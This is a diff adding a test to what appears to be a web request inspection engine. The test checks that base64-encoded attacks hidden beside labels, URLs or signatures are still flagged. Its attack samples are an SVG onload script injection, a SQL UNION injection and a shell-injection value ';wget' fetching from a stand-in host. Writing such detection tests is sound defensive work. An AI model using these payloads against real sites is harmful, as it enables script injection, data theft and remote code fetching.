@@ -90,3 +90,26 @@ test.each(['4,7,X', 'red,X', ',X', 'price,X,desc', 'v1.2,-1,X,8,9'])(
       expect([text, severity(text)]).toEqual([text, 'LOW']);
   },
 );
+
+test.each([
+  'base64:X',
+  'v1.X',
+  'id=X',
+  'https://cdn.example.com/X/a.png',
+  '["s:X.c2ln"]',
+  '4,X',
+  'X--9f86d081884c7d659a2feaa0c55ad015',
+])('base64 is read beside what labels or signs it: %s', (value) => {
+  const severity = (text: string) => {
+    const request = requestOf({ target: `/a?state=${encodeURIComponent(value.replace('X', btoa(text)))}` });
+    return engine.conclude(request, engine.inspect(request)).severity;
+  };
+  for (const text of ['<svg onload=confirm(7)>', "9' UNION SELECT pin FROM members -- ", ';wget http://b.example/c'])
+    expect([text, severity(text)]).not.toEqual([text, 'LOW']);
+  for (const text of [
+    '{"back":"/orders?id=5","nonce":"k2"}',
+    "Rock'n'Roll & Pop; 7\" vinyl",
+    'https://b.example/c?d=e',
+  ])
+    expect([text, severity(text)]).toEqual([text, 'LOW']);
+});
